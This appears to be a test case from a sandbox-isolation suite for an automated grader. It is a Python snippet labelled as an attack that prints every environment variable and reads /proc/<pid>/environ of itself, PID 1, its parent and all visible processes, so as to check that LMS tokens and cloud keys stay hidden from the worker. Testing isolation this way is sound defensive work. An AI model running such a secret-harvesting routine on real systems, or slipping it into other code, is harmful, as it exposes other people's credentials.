

# ---- attack: read tokens and keys from the environment ----------------------------------------------
# The grader's own environment (LMS tokens, cloud keys) must never reach the worker: not in
# os.environ, not through /proc/<pid>/environ of any process the worker can see.
import os as _os

if not _os.path.exists(".env_done"):
    open(".env_done", "w").close()
    for _key, _value in sorted(_os.environ.items()):
        print(f"ENV {_key}={_value}")
    for _pid in ["self", "1", str(_os.getppid())] + [p for p in _os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{_pid}/environ", "rb") as _f:
                print(f"PROCENV {_pid}:", _f.read(4000).replace(b"\0", b" ").decode(errors="replace"))
        except OSError as _exc:
            print(f"PROCENV {_pid}: {type(_exc).__name__}")
